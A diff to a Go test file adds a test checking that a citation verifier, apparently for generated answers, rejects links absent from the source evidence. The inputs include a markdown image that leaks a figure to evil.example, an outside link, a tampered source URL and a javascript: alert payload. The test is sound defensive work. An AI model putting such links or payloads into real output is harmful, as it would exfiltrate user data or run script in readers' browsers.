@@ -193,6 +193,23 @@ func TestWhatAUserTypedIsNoEvidenceBesideTheAppsOwn(t *testing.T) {
 	}
 }
 
+func TestAnAddressThatNoSourceHasIsNotShown(t *testing.T) {
+	ev := evidence(chunk.Chunk{ID: "q3", Text: results + " More at https://bank.example/q3.", URL: "https://bank.example/annual"})
+	for text, stands := range map[string]bool{
+		"Net debt fell to NOK 3.9 billion, see https://bank.example/q3.":                   true,
+		"Net debt fell to NOK 3.9 billion ([report](https://bank.example/annual)).":        true,
+		"Net debt fell to NOK 3.9 billion. ![x](https://evil.example/?q=3.9)":              false,
+		"Net debt fell to NOK 3.9 billion, see https://bank.example/q3?user=1.":            false,
+		"Net debt fell to NOK 3.9 billion: [more](http://evil.example).":                   false,
+		"Net debt fell to NOK 3.9 billion: [more](javascript://evil.example/%0aalert(1)).": false,
+	} {
+		r := Check(said(text, "q3", "Net debt fell to NOK 3.9 billion"), ev, rules())
+		if r.Segments[0].Stands != stands {
+			t.Errorf("%s: stands %t, want %t (%+v)", text, r.Segments[0].Stands, stands, r.Findings)
+		}
+	}
+}
+
 func TestStaleEvidenceIsTold(t *testing.T) {
 	ev := evidence(chunk.Chunk{ID: "old", Text: results, Standing: chunk.Stale})
 	r := Check(said("Net debt fell to NOK 3.9 billion.", "old", "Net debt fell to NOK 3.9 billion"), ev, rules())
